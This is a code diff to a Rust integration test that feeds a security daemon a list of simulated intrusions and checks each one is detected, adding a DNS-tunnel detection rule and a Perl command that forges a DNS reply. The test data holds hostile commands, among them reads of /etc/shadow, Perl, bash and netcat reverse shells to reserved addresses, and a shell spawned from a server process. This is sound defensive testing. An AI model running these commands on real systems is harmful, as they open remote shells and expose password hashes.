@@ -11,6 +11,11 @@ use crate::GUEST;
 const SETTINGS: &str = "/etc/quantumos/security-ai.toml.d/intrusions.toml";
 const UNLIMITED: &str = "[events]\nbudget-cpu-per-mille = 0\nbudget-memory-kib = 0\n";
 
+/// A rule beyond the pack: on names of hosts, for which the daemon listens to name servers from its sandbox.
+const TUNNEL: &str = "/etc/quantumos/security-ai/rules.d/tunnel.yml";
+const RULE: &str = "title: Tunnel by Name\nid: tunnel\nlogsource: {product: linux, category: network_connection}\n\
+    detection: {s: {DestinationHostname: a.example}, condition: s}\nlevel: high\ntags: [attack.t1572]\n";
+
 /// Before: programs by other names, and a listener that a shell calls back to.
 const SETUP: &str = r#"
 set -e
@@ -43,7 +48,7 @@ true
 "#;
 
 /// The rule's title, and what is done.
-const INTRUSIONS: [(&str, &str); 38] = [
+const INTRUSIONS: [(&str, &str); 39] = [
     ("Path Traversal to a Sensitive File", "cat /usr/share/../../etc/shadow >/dev/null"),
     ("Password Hashes Read by an Untrusted Program", "dd if=/etc/shadow of=/dev/null"),
     ("Shell Started by a Server Program", "/run/pack/nginx -e 'system(\"sh\", \"-c\", \"id; uname\")'"),
@@ -68,6 +73,12 @@ const INTRUSIONS: [(&str, &str); 38] = [
         my $at = sockaddr_in(4444, inet_aton("203.0.113.7")); socket L, 2, 1, 0; bind L, $at; listen L, 1;
         if (!fork) { socket S, 2, 1, 0; connect S, $at; open STDIN, "<&S"; open STDOUT, ">&S"; exec "sh" }
         accept A, L; syswrite A, "exit\n"; wait'"#),
+    ("Tunnel by Name", r#"perl -MSocket -e '
+        my $ip = inet_aton("203.0.113.7"); socket S, 2, 2, 0; bind S, sockaddr_in(53, $ip);
+        socket C, 2, 2, 0; bind C, sockaddr_in(0, $ip);
+        my $name = pack "C/a* C/a* x", "a", "example";
+        send S, pack("n6 a* n2 n3 N n a4", 1, 0x8180, 1, 1, 0, 0, $name, 1, 1, 0xc00c, 1, 1, 60, 4, $ip), 0, getsockname C;
+        recv C, my $answer, 512, 0; socket T, 2, 1, 0; connect T, sockaddr_in(9, $ip)'"#),
     ("Reverse Shell on a Command Line", "bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'"),
     ("Netcat Runs a Program", "/run/pack/nc -e /bin/sh 203.0.113.7 4444"),
     ("Packet Socket Opened by an Odd Program", "perl -e 'socket S, 17, 3, 0'"),
@@ -97,11 +108,12 @@ const INTRUSIONS: [(&str, &str); 38] = [
 fn what_the_pack_names_is_seen_on_a_host() {
     GUEST.scenario(|guest| {
         guest.put(SETTINGS, "0644", UNLIMITED.as_bytes())?;
+        guest.put(TUNNEL, "0644", RULE.as_bytes())?;
         guest.shell("systemctl restart security-ai && quantumctl security clear")?;
         let outcome = intruded(guest);
         guest.shell(CLEAN)?;
         guest.shell(&format!(
-            "rm {SETTINGS}; systemctl restart security-ai && quantumctl security clear"
+            "rm {SETTINGS} {TUNNEL}; systemctl restart security-ai && quantumctl security clear"
         ))?;
         outcome
     });
